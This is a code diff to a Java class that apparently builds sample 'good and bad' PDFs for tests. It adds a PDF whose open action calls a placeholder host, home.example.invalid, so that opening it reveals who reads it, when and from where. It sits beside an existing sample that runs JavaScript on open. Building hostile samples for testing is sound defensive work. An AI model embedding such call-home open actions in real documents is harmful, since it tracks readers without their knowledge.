@@ -17,6 +17,7 @@ import org.apache.pdfbox.pdmodel.PDPage;
 import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
 import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
 import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
+import org.apache.pdfbox.pdmodel.interactive.action.PDActionURI;
 
 /** Files to bring, good and bad; made here, so that nobody's papers lie in the repository. */
 public final class Samples {
@@ -58,6 +59,19 @@ public final class Samples {
         try (var pdf = new PDDocument()) {
             pdf.addPage(new PDPage());
             pdf.getDocumentCatalog().setOpenAction(new PDActionJavaScript("app.alert('x')"));
+            return saved(pdf);
+        } catch (IOException e) {
+            throw new UncheckedIOException(e);
+        }
+    }
+
+    /** Opening it asks an address, which learns who reads it, when and from where. */
+    public static byte[] pdfThatCallsHome() {
+        try (var pdf = new PDDocument()) {
+            pdf.addPage(new PDPage());
+            var call = new PDActionURI();
+            call.setURI("http://home.example.invalid/");
+            pdf.getDocumentCatalog().setOpenAction(call);
             return saved(pdf);
         } catch (IOException e) {
             throw new UncheckedIOException(e);
